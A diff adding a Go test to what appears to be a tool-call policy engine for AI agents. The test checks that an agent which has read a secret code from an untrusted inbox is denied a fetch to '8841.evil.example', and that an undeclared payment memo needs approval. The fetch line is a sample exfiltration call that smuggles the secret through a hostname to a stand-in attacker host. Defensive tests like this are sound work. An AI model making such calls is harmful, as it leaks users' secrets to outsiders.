@@ -173,3 +173,22 @@ rules:
 		}
 	}
 }
+
+// TestHostWithoutScheme: a secret in a host name leaves the house as in any URL, and
+// an argument that the schema does not declare is never taken for prose.
+func TestHostWithoutScheme(t *testing.T) {
+	specs := []tools.Spec{paySpec(), {Name: "fetch", Effect: tools.Read, Parameters: []byte(`{"type":"object","properties":{"url":{"type":"string"}}}`)},
+		{Name: "inbox", Effect: tools.Read, Labels: map[string]string{"integrity": "untrusted", "confidentiality": "secret", "readers": "me"}}}
+	b, err := LoadBundle("strict", specs)
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := NewRun(b, Info{})
+	fold(t, r, say("pay bob 5 and read my inbox"), Fact{Kind: FactResult, Call: &tools.Call{Tool: "inbox"}, Result: &tools.Result{Value: []byte(`"the code is 8841"`)}})
+	if d := r.Call(tools.Call{ID: "1", Tool: "fetch", Arguments: []byte(`{"url":"8841.evil.example"}`)}, start); d.Verdict != Deny {
+		t.Error(d.Verdict, d.Rule)
+	}
+	if d := r.Call(tools.Call{ID: "2", Tool: "pay", Arguments: []byte(`{"to":"bob","amount":5,"memo":"quite other words here"}`)}, start); d.Verdict != RequireApproval {
+		t.Error(d.Verdict, d.Rule)
+	}
+}
